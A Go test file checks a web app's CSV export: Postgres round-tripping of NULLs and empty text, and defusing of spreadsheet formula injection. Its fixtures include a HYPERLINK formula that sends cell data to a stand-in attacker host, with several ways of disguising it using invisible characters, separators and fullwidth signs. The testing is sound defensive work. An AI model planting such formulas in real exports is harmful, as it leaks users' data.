package web

import (
	"strings"
	"testing"

	"capture/internal/statefile/statefiletest"
	"capture/snapshot"
)

// TestExportCSVIntoPostgres imports the exported CSV with Postgres' COPY, and checks that the rows are the same. In every
// column and row, NULL must stay NULL, and an empty text must stay an empty text.
func TestExportCSVIntoPostgres(t *testing.T) {
	d := statefiletest.NewDB(t)
	const columns = "(first text, id int PRIMARY KEY, n numeric, f float8, yes bool, last text)"
	d.Exec("CREATE TABLE votes " + columns + "; CREATE TABLE imported " + columns)
	d.Exec(`INSERT INTO votes VALUES ('', 1, 1.50, 0.1, true, ''), (NULL, 2, NULL, NULL, NULL, NULL), ('', 3, -0.1, 1e30, false, NULL), (NULL, 4, 'NaN', 'NaN', true, ''),
		('text', 5, 0, '-Infinity', true, 'text'), ('', 6, 1e30, 0, NULL, E'two\r\nlines'), ('"quoted", and \N', 7, NULL, 1, false, 'NULL'), (NULL, 8, NULL, NULL, NULL, '🗳️')`)
	v := d.View("votes")
	w := newHarness(t, func(cfg *Config) { cfg.View = func() *snapshot.View { return v } }).do("GET", "/api/votes.csv")
	if w.Code != 200 {
		t.Fatalf("%d: %s", w.Code, w.Body)
	}
	if _, err := d.Conn.PgConn().CopyFrom(t.Context(), strings.NewReader(w.Body.String()), "COPY public.imported FROM STDIN (FORMAT csv, HEADER)"); err != nil {
		t.Fatalf("%v in\n%s", err, w.Body)
	}
	d.WantSameRows("votes", "imported", "id")
}

// TestExportCSVIsHarmless checks that Excel opens the CSV as UTF-8, and that no cell is a formula, whatever separator the system
// uses.
func TestExportCSVIsHarmless(t *testing.T) {
	const formula = `=HYPERLINK("http://evil.example/?"&A1)`
	for text, want := range map[string]string{
		"plain, \"quoted\" – text":        "plain, \"quoted\" – text",
		"1-2=3 a+b a@b":                   "1-2=3 a+b a@b",
		formula:                           "'" + formula,
		"x;" + formula:                    "x;'" + formula,
		"x; \u00a0\u200b\ufeff" + formula: "x; \u00a0\u200b\ufeff'" + formula,
		"\u2066" + formula:                "\u2066'" + formula,
		"x\n" + formula:                   "x\n'" + formula,
		"x\r\n\r\n" + formula:             "x\r\n\r\n'" + formula,
		"x\t" + formula:                   "x\t'" + formula,
		"\n" + formula:                    "'\n'" + formula,
		"\tx":                             "'\tx",
		"\rx":                             "'\rx",
		"x;\"" + formula:                  "x;\"'" + formula,
		"\u3164\ufe0f=1":                  "\u3164\ufe0f'=1",
		" +1":                             " '+1",
		"-1":                              "'-1",
		"@SUM(1)":                         "'@SUM(1)",
		"＝1+1":                            "'＝1+1",
		"＋1":                              "'＋1",
		"－1":                              "'－1",
		"＠x":                              "'＠x",
		"a;;=b":                           "a;;'=b",
		";":                               ";",
		"":                                "",
	} {
		if got := string(appendDisarmed(nil, []byte(text))); got != want {
			t.Errorf("%q is %q, want %q", text, got, want)
		}
	}
	r := fiveVotes(t)
	h := newTableHarness(t, r, nil)
	body := h.do("GET", "/api/votes.csv").Body.String()
	if !strings.HasPrefix(body, "\uFEFF\"vote_id\",\"user_query\",") || !strings.Contains(body, "\r\n\"1\",\"How do I reset my password?\",") {
		t.Errorf("%q", body)
	}
	if !strings.Contains(body, `,,"'=cmd()",`) { // NULL has no quotes
		t.Errorf("%q", body)
	}
}
